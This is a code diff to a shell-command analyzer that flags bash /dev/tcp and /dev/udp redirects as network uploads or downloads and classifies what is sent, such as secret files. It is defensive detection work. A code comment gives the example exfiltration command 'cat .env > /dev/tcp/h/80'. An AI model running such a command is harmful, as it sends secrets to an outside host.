@@ -108,7 +108,10 @@ function analyzeCommand(cmd: SimpleCommand, env: AnalysisEnv, out: ShellAnalysis
   for (const r of cmd.redirects) {
     if (!r.target) continue;
     if (/^\d+$|^-$/.test(r.target.value) && /&/.test(r.op)) continue;
-    if (r.op === "<") emit({ type: "read", ...resolve(r.target), span: r.span });
+    // bash's /dev/tcp/HOST/PORT: a redirect there is a network connection, carrying what the command prints.
+    const socket = /^\/dev\/(tcp|udp)\/([^/]+)\/\d+$/.exec(r.target.value);
+    if (socket) emit({ type: "net", direction: r.op === "<" ? "download" : "upload", host: socket[2], payload: r.op === "<" ? undefined : socketPayload(cmd, resolve), span: r.span } as Effect);
+    else if (r.op === "<") emit({ type: "read", ...resolve(r.target), span: r.span });
     else if (r.op !== "<<<") emit({ type: "write", ...resolve(r.target), append: r.op.endsWith(">>"), note: "redirect", span: r.span });
   }
   recordWrites(cmd, resolve, out);
@@ -160,6 +163,13 @@ function dispatch(ctx: ProgramContext): void {
     handler!(dir ? inFolder(at, dir) : at);
   }
   envAssignments(ctx);
+}
+
+/** `cat .env > /dev/tcp/h/80`: the files a printing command names are what goes out. */
+function socketPayload(cmd: SimpleCommand, resolve: (w: ShellWord) => PathRef): PathRef["class"] | "data" {
+  if (!/^(cat|tac|head|tail|base64|xxd|gzip|tar|echo|printf)$/.test(cmd.argv[0]?.value ?? "")) return "data";
+  const classes = cmd.argv.slice(1).filter((w) => !w.value.startsWith("-") && /[./~]/.test(w.value)).map((w) => resolve(w).class);
+  return (["secret", "protected", "home", "system", "workspace"] as const).find((c) => classes.includes(c)) ?? "data";
 }
 
 /** Nested shells report spans relative to their own text: point them at the command that ran them. */
